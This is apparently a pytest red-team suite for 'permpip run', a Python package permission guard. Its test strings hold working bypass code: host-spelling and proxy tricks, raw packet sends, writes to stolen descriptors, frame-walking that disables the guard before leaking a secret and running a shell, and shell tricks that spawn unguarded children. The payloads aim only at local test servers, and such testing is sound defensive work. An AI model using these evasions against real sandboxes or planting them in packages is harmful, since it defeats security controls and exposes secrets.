"""Red team of ``permpip run``, third round: ``hosts`` limits, attribution through
callables and deputies, frames and code of the package reaching into the guard, children.

Same style as tests/runtime/test_guard_redteam.py (whose ``attack`` fixture this reuses): a
package ``evil`` installed with a RECORD, ``main.py`` (the application) run under
``permpip run`` for real, a harmless payload against a server on 127.0.0.1 started by the
test. An attempt the guard stops is a plain test; one that succeeds is marked
``xfail(strict=True, reason="bypass (<class>): <mechanism>")``.
"""

from __future__ import annotations

import socket
import threading
import time
from pathlib import Path

import pytest

from tests.runtime.conftest import RunPermpip, Target, install_fake
from tests.runtime.test_guard_redteam import _child, attack, bypass

HOSTS = '{ allow = ["network"], hosts = ["api.example.com"] }'
WILD = '{ allow = ["network"], hosts = ["*.example.com"] }'

TRY = (
    "def go():\n"
    "    try:\n"
    "        {send}\n"
    "        print('sent')\n"
    "    except PermissionError:\n"
    "        print('refused')\n"
    "    except OSError as exc:\n"
    "        print('refused' if isinstance(getattr(exc, 'reason', None), PermissionError)"
    " else 'error ' + repr(exc))\n")


def tried(send: str) -> str:
    return TRY.replace("{send}", send)


# -- 1. hosts: where a package limited to hosts connects -------------------------------------

HELPERS = (
    "import asyncio, socket\n"
    "async def _sock_connect():\n"
    "    s = socket.socket(); s.setblocking(False)\n"
    "    await asyncio.get_running_loop().sock_connect(s, ('127.0.0.1', @PORT@))\n"
    "async def _datagram():\n"
    "    await asyncio.get_running_loop().create_datagram_endpoint(\n"
    "        asyncio.DatagramProtocol, remote_addr=('127.0.0.1', @PORT@))\n"
    "async def _open():\n"
    "    await asyncio.open_connection('127.0.0.1', @PORT@)\n")


@pytest.mark.parametrize("send", [
    "socket.create_connection(('2130706433', @PORT@))",
    "socket.create_connection(('127.1', @PORT@))",
    "socket.create_connection(('0x7f.1', @PORT@))",
    "socket.create_connection(('LOCALHOST', @PORT@))",
    "socket.socket().connect(('127.0.0.1', @PORT@))",
    "socket.socket().connect_ex(('127.0.0.1', @PORT@))",
    "socket.socket(socket.AF_INET6).connect(('::ffff:127.0.0.1', @PORT@))",
    "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', @PORT@))",
    "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b'x'], [], 0, "
    "('127.0.0.1', @PORT@))",
    "socket.socket(socket.AF_UNIX).connect('/tmp/.X11-unix/X0')",
    "asyncio.run(_sock_connect())",
    "asyncio.run(_datagram())",
    "asyncio.run(_open())",
    "socket.gethostbyaddr('127.0.0.1')",
    "socket.gethostbyname('localhost')",
    "socket.getaddrinfo('api.example.com.evil.test', 80)",
    "__import__('http.client').client.HTTPConnection('127.0.0.1', @PORT@).request('GET', '/')",
    "__import__('urllib.request').request.urlopen('@URL@')",
])
def test_hosts_other_spellings_of_a_host_not_listed(
        tmp_path: Path, target: Target, run_permpip: RunPermpip, send: str) -> None:
    """evil may connect to api.example.com only: 127.0.0.1 under every spelling is refused."""
    o = attack(tmp_path, run_permpip, HELPERS + tried(send), grant=HOSTS, target=target,
               enforce=True)
    assert target.requests == [] and "refused" in o.output, o.output
    assert o.used == [("evil", "network")]


@pytest.mark.parametrize("name", ["example.com", "xexample.com", "a.example.com.evil.test",
                                  "a.example.com\u3002evil.test", "a.example.co"])
def test_hosts_wildcard_does_not_match_the_bare_domain_or_suffixes(
        tmp_path: Path, run_permpip: RunPermpip, name: str) -> None:
    o = attack(tmp_path, run_permpip, tried(f"__import__('socket').getaddrinfo({name!r}, 80)"),
               grant=WILD, enforce=True)
    assert "refused" in o.output, o.output
    assert o.used == [("evil", "network")]


def test_forging_the_resolvers_event_is_ignored(tmp_path: Path, target: Target,
                                                run_permpip: RunPermpip) -> None:
    """Claiming through ``sys.audit`` that api.example.com resolved to 127.0.0.1."""
    o = attack(tmp_path, run_permpip, (
        "import socket, sys\n"
        "sys.audit('permpip.resolved', 'getaddrinfo', 'api.example.com',\n"
        "          [(2, 1, 6, '', ('127.0.0.1', 80))])\n") + tried(
        "__import__('urllib.request').request.urlopen('@URL@')"),
        grant=HOSTS, target=target, enforce=True)
    assert target.requests == [] and "refused" in o.output
    assert o.used == [("evil", "network")]


def test_hosts_resolved_map_poisoned_by_a_str_subclass(
        tmp_path: Path, target: Target, run_permpip: RunPermpip) -> None:
    o = attack(tmp_path, run_permpip, (
        "import socket, urllib.request\n"
        "class _Name(str):\n"
        "    def lower(self):\n"
        "        return 'api.example.com'\n") + tried(
        "socket.getaddrinfo(_Name('127.0.0.1'), 80); urllib.request.urlopen('@URL@').read()"),
        grant=HOSTS, target=target, enforce=True)
    assert target.requests == [] and "refused" in o.output
    assert o.used == [("evil", "network")]


def test_hosts_connect_with_a_lying_str_subclass(
        tmp_path: Path, target: Target, run_permpip: RunPermpip) -> None:
    o = attack(tmp_path, run_permpip, (
        "import socket\n"
        "class _Name(str):\n"
        "    def partition(self, sep):\n"
        "        return ('api', '', '')\n"
        "    def lower(self):\n"
        "        return 'api.example.com'\n"
        "def _get():\n"
        "    s = socket.socket()\n"
        "    s.connect((_Name('127.0.0.1'), @PORT@))\n"
        "    s.sendall(b'GET /beacon HTTP/1.0\\r\\n\\r\\n')\n"
        "    while s.recv(4096):\n"
        "        pass\n") + tried("_get()"), grant=HOSTS, target=target, enforce=True)
    assert target.requests == [] and "refused" in o.output
    assert o.used == [("evil", "network")]


def test_hosts_through_an_environment_proxy(tmp_path: Path, target: Target,
                                            run_permpip: RunPermpip) -> None:
    """A urllib request through a proxy from the environment (http_proxy) connects only to
    the allowed proxy; the host it asks for (``urllib.Request``) is judged."""
    o = attack(tmp_path, run_permpip, tried(
        "__import__('urllib.request').request.urlopen('http://forbidden.test/secret').read()"),
        grant='{ allow = ["network"], hosts = ["localhost"] }', target=target,
        env={"http_proxy": f"http://localhost:{target.port}"}, enforce=True)
    assert not any("forbidden.test" in r for r in target.requests)
    assert "refused" in o.output, o.output
    assert o.used == [("evil", "network")]
    assert o.violation("network")["chain"][-1] == (
        "urllib.Request http://forbidden.test/secret (not in its hosts)")


@pytest.mark.parametrize("send", [
    # a CONNECT tunnel (https through a proxy)
    "c = http.client.HTTPConnection('localhost', @PORT@); c.set_tunnel('forbidden.test', 443);"
    " c.request('GET', '/'); c.getresponse()",
    # a proxy request: an absolute URL in the request line
    "c = http.client.HTTPConnection('localhost', @PORT@);"
    " c.request('GET', 'http://forbidden.test/secret'); c.getresponse().read()",
    "c = http.client.HTTPConnection('localhost', @PORT@); c.connect();"
    " c.send(b'GET http://forbidden.test/secret HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')",
])
def test_hosts_through_a_proxy_with_http_client(tmp_path: Path, target: Target,
                                                run_permpip: RunPermpip, send: str) -> None:
    o = attack(tmp_path, run_permpip, "import http.client\n" + tried(send),
               grant='{ allow = ["network"], hosts = ["localhost"] }', target=target,
               enforce=True)
    assert target.requests == [] and "refused" in o.output, o.output
    assert o.used == [("evil", "network")]
    assert o.violation("network")["event"] == "http.client.send"


def test_hosts_through_a_proxy_to_a_listed_host(tmp_path: Path, target: Target,
                                                run_permpip: RunPermpip) -> None:
    """The other side: a proxy it may reach, asked for a host it may reach."""
    o = attack(tmp_path, run_permpip, tried(
        "__import__('urllib.request').request.urlopen('http://allowed.test/ok').read()"),
        grant='{ allow = ["network"], hosts = ["localhost", "allowed.test"] }',
        target=target, env={"http_proxy": f"http://localhost:{target.port}"}, enforce=True)
    assert target.requests == ["http://allowed.test/ok"] and "sent" in o.output, o.output
    assert o.used == [] and o.code == 0


PACKET = (
    "import socket, struct\n"
    "def _csum(b):\n"
    "    s = sum(struct.unpack('!%dH' % (len(b) // 2), b))\n"
    "    s = (s >> 16) + (s & 0xffff)\n"
    "    return ~(s + (s >> 16)) & 0xffff\n"
    "def _frame(port, payload):\n"
    "    udp = struct.pack('!HHHH', 40000, port, 8 + len(payload), 0) + payload\n"
    "    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,\n"
    "                     bytes([127, 0, 0, 1]), bytes([127, 0, 0, 2]))\n"
    "    ip = ip[:10] + struct.pack('!H', _csum(ip)) + ip[12:]\n"
    "    return bytes(12) + b'\\x08\\x00' + ip + udp\n"
    "def _send():\n"
    "    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\n"
    "    s.bind(('lo', 0))\n"
    "    for _ in range(20):\n"
    "        s.send(_frame(@PORT@, b'permpip-raw-frame'))\n")


def _sniff(found: list[bytes], stop: threading.Event) -> None:
    sn = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    sn.bind(("lo", 0))
    sn.settimeout(0.2)
    while not stop.is_set():
        try:
            data = sn.recv(4096)
        except OSError:
            continue
        if b"permpip-raw-frame" in data:
            found.append(data)
    sn.close()


def _packet_sockets() -> bool:
    try:
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()
    except (OSError, AttributeError):
        return False
    return True


@pytest.mark.skipif(not _packet_sockets(), reason="needs AF_PACKET (root, Linux)")
def test_hosts_packet_socket(tmp_path: Path, run_permpip: RunPermpip) -> None:
    found: list[bytes] = []
    stop = threading.Event()
    sniffer = threading.Thread(target=_sniff, args=(found, stop), daemon=True)
    sniffer.start()
    time.sleep(0.3)
    try:
        o = attack(tmp_path, run_permpip, PACKET + tried("_send()"), grant=HOSTS,
                   enforce=True)
        time.sleep(0.5)
    finally:
        stop.set()
        sniffer.join()
    assert found == [] and "refused" in o.output, (len(found), o.output)
    assert o.used == [("evil", "network")]


# -- 2. descriptors someone else opened: no event for using them ------------------------------

STEAL_SOCKET = (
    "import os, stat\n"
    "def go():\n"
    "    for fd in range(3, 256):\n"
    "        try:\n"
    "            if not stat.S_ISSOCK(os.fstat(fd).st_mode):\n"
    "                continue\n"
    "            os.write(fd, b'GET /stolen HTTP/1.0\\r\\n\\r\\n')\n"
    "            os.read(fd, 100)\n"
    "        except OSError:\n"
    "            pass\n")


@bypass("descriptors", "a package granted nothing writes an HTTP request with os.write on "
        "the application's connected socket, found by fstat over descriptor numbers: "
        "only connect/sendto/sendmsg are events, send/write on an established socket is not; "
        "inherent: the socket object itself is reachable with no event "
        "(sys.modules['__main__'].keep.sendall), so wrapping os.write closes one spelling")
def test_writing_to_the_applications_connected_socket(
        tmp_path: Path, target: Target, run_permpip: RunPermpip) -> None:
    o = attack(tmp_path, run_permpip, STEAL_SOCKET, main=(
        "import socket\n"
        "keep = socket.create_connection(('127.0.0.1', @PORT@))  # a keep-alive connection\n"
        "import evil\n"
        "evil.go()\n"), target=target, enforce=True)
    assert "/stolen" not in target.requests
    assert ("evil", "network") in o.used


@bypass("descriptors", "a package granted nothing writes into a file the application "
        "opened for writing (its log), with os.write on the descriptor: no open, no event; "
        "inherent: the file object is reachable with no event (sys.modules['__main__'].log) "
        "and its write is C code (io)")
def test_writing_to_the_applications_open_file(tmp_path: Path,
                                               run_permpip: RunPermpip) -> None:
    o = attack(tmp_path, run_permpip, (
        "import os, stat\n"
        "def go():\n"
        "    for fd in range(3, 256):\n"
        "        try:\n"
        "            if os.readlink('/proc/self/fd/%d' % fd) == '@MARKER@':\n"
        "                os.write(fd, b'written by evil\\n')\n"
        "        except OSError:\n"
        "            pass\n"), main=(
        "log = open('@MARKER@', 'a', buffering=1)\n"
        "import evil\n"
        "evil.go()\n"), enforce=True)
    assert "evil" not in o.marker.read_text()
    assert ("evil", "fs-write") in o.used


# -- 3. package code run by the guard itself: the re-entry check lets it all through -----------

INSIDE = (
    "import urllib.request\n"
    "class _Path(bytes):\n"
    "    def decode(self, *a):\n"
    "        print('DECODE CALLED')\n"
    "        urllib.request.urlopen('@URL@').read()\n"
    "        return bytes(self).decode(*a)\n"
    "def go():\n"
    "    try:\n"
    "        open(_Path(b'/etc/hostname')).close()\n"
    "    except OSError:\n"
    "        pass\n")


def test_package_code_run_inside_the_hook_is_unguarded(
        tmp_path: Path, target: Target, run_permpip: RunPermpip) -> None:
    """The guard reads a bytes subclass with bytes.decode (the base method, as C reads it):
    the package's decode() never runs inside the hook (nor does any network use it makes);
    the open itself is judged."""
    o = attack(tmp_path, run_permpip, INSIDE, target=target, enforce=True)
    assert target.requests == []
    assert "DECODE CALLED" not in o.output
    assert o.used == [("evil", "fs-read")]


# walk from the running code to the guard's hook frame: its default ``_get`` is the bound
# ``get`` of the event table; ``decide`` is a cell shared by every handler
SWITCH_OFF = (
    "import sys\n"
    "def _switch_off(f):\n"
    "    while f is not None and '_get' not in f.f_locals:\n"
    "        f = f.f_back\n"
    "    if f is None:\n"
    "        return False\n"
    "    table = f.f_locals['_get'].__self__\n"
    "    for handler in list(table.values()):\n"
    "        for name, cell in zip(handler.__code__.co_freevars, handler.__closure__ or ()):\n"
    "            if name == 'decide':\n"
    "                cell.cell_contents = lambda *a, **k: None\n"
    "    table.clear()\n"
    "    return True\n")

PAYLOAD = (
    "import os, subprocess, urllib.request\n"
    "def _payload():\n"
    "    urllib.request.urlopen('@URL@').read()\n"
    "    print('LEAK', os.environ['SECRET'])\n"
    "    subprocess.run(['/bin/sh', '-c', 'echo x > @MARKER@'])\n")


def test_switching_the_guard_off_from_a_bytes_subclass(
        tmp_path: Path, target: Target, run_permpip: RunPermpip) -> None:
    o = attack(tmp_path, run_permpip, SWITCH_OFF + PAYLOAD + (
        "class _Path(bytes):\n"
        "    def decode(self, *a):\n"
        "        print('OFF', _switch_off(sys._getframe(1)))\n"
        "        return bytes(self).decode(*a)\n"
        "def go():\n"
        "    try:\n"
        "        open(_Path(b'/etc/hostname')).close()\n"
        "    except OSError:\n"
        "        pass\n"
        "    _payload()\n"), target=target, enforce=True)
    assert target.requests == [] and not o.marker.exists()
    assert "s3cret-value" not in o.output
    assert ("evil", "network") in o.used


def test_switching_the_guard_off_from_a_second_audit_hook(
        tmp_path: Path, target: Target, run_permpip: RunPermpip) -> None:
    o = attack(tmp_path, run_permpip, SWITCH_OFF + PAYLOAD + (
        "_state = []\n"
        "def _hook(event, args):\n"
        "    if _state or event != 'sys._getframe':\n"
        "        return\n"
        "    _state.append('in')\n"
        "    if not _switch_off(sys._getframe(1)):\n"
        "        _state.clear()\n"
        "sys.addaudithook(_hook)\n"
        "def go():\n"
        "    try:\n"
        "        open('/etc/hostname').close()\n"
        "    except OSError:\n"
        "        pass\n"
        "    print('OFF', _state)\n"
        "    _payload()\n"), target=target, enforce=True)
    assert target.requests == [] and not o.marker.exists()
    assert "s3cret-value" not in o.output
    assert ("evil", "network") in o.used


def test_switching_the_guard_off_from_a_signal_handler(
        tmp_path: Path, target: Target, run_permpip: RunPermpip) -> None:
    """A Python signal handler is given the frame the signal interrupted (no event): a timer
    firing while the guard handles an open would hand it the hook's frame. Handlers are
    deferred while the guard runs and otherwise given the first frame that is not the
    guard's."""
    o = attack(tmp_path, run_permpip, SWITCH_OFF + PAYLOAD + (
        "import signal, time\n"
        "_state = []\n"
        "_seen = []\n"
        "def _on_alarm(signum, frame):\n"
        "    _seen.append(frame is None)\n"
        "    if not _state and _switch_off(frame):\n"
        "        _state.append('off')\n"
        "def go():\n"
        "    signal.signal(signal.SIGALRM, _on_alarm)\n"
        "    signal.setitimer(signal.ITIMER_REAL, 0.0002, 0.0002)\n"
        "    end = time.monotonic() + 2\n"
        "    while time.monotonic() < end and not _state:\n"
        "        try:\n"
        "            open('/etc/hostname').close()\n"
        "        except OSError:\n"
        "            pass\n"
        "    signal.setitimer(signal.ITIMER_REAL, 0)\n"
        "    print('OFF', _state, 'SIGNALS', len(_seen), 'DEFERRED', sum(_seen))\n"
        "    _payload()\n"), target=target, enforce=True)
    assert "OFF []" in o.output, o.output
    assert "SIGNALS 0 " not in o.output  # the timer did fire
    assert target.requests == [] and not o.marker.exists()
    assert "s3cret-value" not in o.output
    assert ("evil", "network") in o.used


# -- 4. frames the standard library hands out: introspection without an event ----------------


def test_getframe_of_its_own_is_introspection(tmp_path: Path,
                                              run_permpip: RunPermpip) -> None:
    o = attack(tmp_path, run_permpip, (
        "import sys\n"
        "def go():\n"
        "    try:\n"
        "        print('LEAK', sys._getframe(1).f_locals.get('password'))\n"
        "    except PermissionError:\n"
        "        print('refused')\n"), main=(
        "import evil\n"
        "def main():\n"
        "    password = 'hunter2-app-secret'\n"
        "    evil.go()\n"
        "main()\n"), enforce=True)
    assert "hunter2" not in o.output and "refused" in o.output
    assert o.used == [("evil", "introspection")]


@pytest.mark.parametrize("frame", [
    "__import__('logging').currentframe().f_back",
    "next(__import__('traceback').walk_stack(None))[0]",
])
def test_frames_from_a_stdlib_helper(tmp_path: Path, run_permpip: RunPermpip,
                                     frame: str) -> None:
    o = attack(tmp_path, run_permpip, (
        "def go():\n"
        "    try:\n"
        f"        f = {frame}\n"
        "        while f is not None and 'password' not in f.f_locals:\n"
        "            f = f.f_back\n"
        "        print('LEAK', f.f_locals['password'])\n"
        "    except PermissionError:\n"
        "        print('refused')\n"), main=(
        "import evil\n"
        "def main():\n"
        "    password = 'hunter2-app-secret'\n"
        "    evil.go()\n"
        "main()\n"), enforce=True)
    assert "hunter2" not in o.output
    assert ("evil", "introspection") in o.used


def test_environment_from_inside_the_environ_generator(
        tmp_path: Path, run_permpip: RunPermpip) -> None:
    o = attack(tmp_path, run_permpip, (
        "import logging, os\n"
        "_found = []\n"
        "class _Key(bytes):\n"
        "    def __hash__(self):\n"
        "        f = logging.currentframe()\n"
        "        while f is not None and not _found:\n"
        "            data = f.f_locals.get('data')\n"
        "            if type(data) is dict:\n"
        "                _found.append(data)\n"
        "            f = f.f_back\n"
        "        return bytes.__hash__(self)\n"
        "def go():\n"
        "    try:\n"
        "        os.environ._data[_Key(b'PERMPIP_X')] = b'1'\n"
        "        print('LEAK', _found[0][b'SECRET'])\n"
        "    except PermissionError:\n"
        "        print('refused')\n"), enforce=True)
    assert "s3cret-value" not in o.output
    assert ("evil", "env") in o.used


def test_environment_through_threading_setprofile(
        tmp_path: Path, run_permpip: RunPermpip) -> None:
    o = attack(tmp_path, run_permpip, (
        "import threading\n"
        "_seen = []\n"
        "def _prof(frame, event, arg):\n"
        "    data = frame.f_locals.get('data') if event == 'call' else None\n"
        "    if type(data) is dict and b'SECRET' in data and not _seen:\n"
        "        _seen.append(1)\n"
        "        print('LEAK', data[b'SECRET'])\n"
        "def go():\n"
        "    threading.setprofile(_prof)\n"), main=(
        "import os, threading\n"
        "import evil\n"
        "evil.go()\n"
        "t = threading.Thread(target=os.environ.get, args=('HOME',))\n"
        "t.start()\n"
        "t.join()\n"), enforce=True)
    assert "s3cret-value" not in o.output
    assert ("evil", "introspection") in o.used or ("evil", "env") in o.used


# -- 5. attribution: callables and deputies ---------------------------------------------------

GOOD = {"good/__init__.py": (
    "import urllib.request\n"
    "def fetch(url):\n"
    "    return urllib.request.urlopen(url).read()\n"
    "def run_hooks(hooks):\n"
    "    for h in hooks:\n"
    "        h()\n")}


@pytest.mark.parametrize("use", [
    "good.fetch('@URL@')",
    "good.run_hooks([functools.partial(urllib.request.urlopen, '@URL@')])",
])
@bypass("deputy", "the innermost distribution on the stack is judged: a package granted "
        "nothing calls a granted one's fetch(url), or hands it a partial of urlopen to call; "
        "the use is the granted package's. Judging every distribution on the stack needs "
        "doPrivileged points Python code lacks (pluggy would need every plugin's "
        "capabilities); a partial carries no frame of its maker and its making raises no event")
def test_a_granted_package_as_a_deputy(tmp_path: Path, target: Target,
                                       run_permpip: RunPermpip, use: str) -> None:
    install_fake(tmp_path / "site", "good", "1.0", GOOD)
    o = attack(tmp_path, run_permpip, (
        "import functools, urllib.request\n"
        "import good\n"
        "def go():\n"
        f"    {use}\n"), policy={"good": '["network"]'}, target=target, enforce=True)
    assert target.requests == []
    assert ("evil", "network") in o.used


@pytest.mark.parametrize("register", [
    "threading._register_atexit(functools.partial(urllib.request.urlopen, '@URL@'))",
    "multiprocessing.util.Finalize(None, urllib.request.urlopen, args=('@URL@',), "
    "exitpriority=1)",
])
@bypass("misattribution", "exit callbacks registered through a standard library registry "
        "other than atexit.register (threading._register_atexit, multiprocessing.util."
        "Finalize) run at exit with no distribution frame and no registrant recorded: the "
        "registration raises no event, and replacing it needs those modules imported into "
        "every process before package code runs (6 ms + 25 ms CPU per start, measured)")
def test_exit_callbacks_through_another_registry(tmp_path: Path, target: Target,
                                                 run_permpip: RunPermpip,
                                                 register: str) -> None:
    o = attack(tmp_path, run_permpip, (
        "import functools, multiprocessing.util, threading, urllib.request\n"
        "def go():\n"
        f"    {register}\n"), target=target)
    assert ("evil", "network") in o.used


def test_threading_timer_with_a_stdlib_target(tmp_path: Path, target: Target,
                                              run_permpip: RunPermpip) -> None:
    o = attack(tmp_path, run_permpip, (
        "import threading, urllib.request\n"
        "def go():\n"
        "    t = threading.Timer(0.01, urllib.request.urlopen, ['@URL@'])\n"
        "    t.start()\n"
        "    t.join()\n"), grant='["threads"]', target=target, enforce=True)
    assert target.requests == []
    assert o.used == [("evil", "network")]


SITECUSTOMIZE = {"sitecustomize.py": ("import urllib.request\n"
                                      "try:\n"
                                      "    urllib.request.urlopen('@URL@').read()\n"
                                      "except OSError:\n"
                                      "    pass\n")}


def test_a_sitecustomize_shipped_by_the_package(tmp_path: Path, target: Target,
                                                run_permpip: RunPermpip) -> None:
    """The guard chains to the next sitecustomize on sys.path: the package's, run after the
    hook, as the package's, at import (in the guarded process)."""
    o = attack(tmp_path, run_permpip, "def go():\n    pass\n", files=SITECUSTOMIZE,
               target=target, enforce=True)
    v = o.violation("network")
    assert (v["package"], v["phase"], v["where"]) == ("evil", "import", "sitecustomize.py:3")
    assert len(target.requests) <= 1  # not from the guarded process (next test)


@bypass("launcher", "permpip's own process runs in the environment of the packages (the "
        "project's venv, here PYTHONPATH) with no guard: their startup code (a "
        "sitecustomize.py, like a .pth line) runs unguarded in the launcher, before "
        "permpip's first line (inherent: run permpip from an environment of its own)")
def test_a_sitecustomize_runs_in_the_launcher(tmp_path: Path, target: Target,
                                              run_permpip: RunPermpip) -> None:
    attack(tmp_path, run_permpip, "def go():\n    pass\n", files=SITECUSTOMIZE,
           target=target, enforce=True)
    assert target.requests == []


# -- 6. children: the guard reads a shell command as words -------------------------------------

@pytest.mark.parametrize("start", [
    "os.system(sys.executable + \" '-I' -c \\\"\" + CHILD + '\"')",
    "os.system('F=-I; ' + sys.executable + ' $F -c \"' + CHILD + '\"')",
    "os.system('PYTHONPATH= ' + sys.executable + ' -c \"' + CHILD + '\"')",
    "os.system('env -u PYTHONPATH ' + sys.executable + ' -c \"' + CHILD + '\"')",
    "subprocess.run(['/bin/sh', '-c', 'exec \"$0\" -I -c \"$1\"', sys.executable, CHILD])",
])
def test_children_without_the_guard_through_a_shell(tmp_path: Path,
                                                    run_permpip: RunPermpip,
                                                    start: str) -> None:
    o = _child(tmp_path, run_permpip, start)
    assert not o.marker.exists()
    assert ("evil", "guard") in o.used


@pytest.mark.parametrize("start", [
    "os.system(sys.executable + ' -c \"' + CHILD + '\"')",
    "os.system('FOO=1 ' + sys.executable + ' -c \"' + CHILD + '\"')",
    "subprocess.run('echo $HOME >/dev/null && ' + sys.executable + ' -c \"' + CHILD + '\"', "
    "shell=True)",
    "subprocess.run(['/bin/sh', '-c', 'exec \"$0\" -c \"$1\"', sys.executable, CHILD])",
    "os.system('env FOO=1 ' + sys.executable + ' -c \"' + CHILD + '\"')",
])
def test_children_through_a_shell_that_keep_the_guard(tmp_path: Path, run_permpip: RunPermpip,
                                                      start: str) -> None:
    """The shell reading does not refuse ordinary commands: the child runs, guarded."""
    o = _child(tmp_path, run_permpip, start)
    assert o.marker.exists(), o.output
    assert ("evil", "guard") not in o.used


@pytest.mark.parametrize("start", [
    "os.execv(sys.executable, [sys.executable, '-I', '-c', CHILD])",
    "os.execve(sys.executable, [sys.executable, '-c', CHILD], {})",
    "subprocess.run([sys.executable, '-c', CHILD], env={'PYTHONPATH': ''})",
])
def test_children_caught(tmp_path: Path, run_permpip: RunPermpip, start: str) -> None:
    o = _child(tmp_path, run_permpip, start)
    assert not o.marker.exists()
    assert ("evil", "guard") in o.used
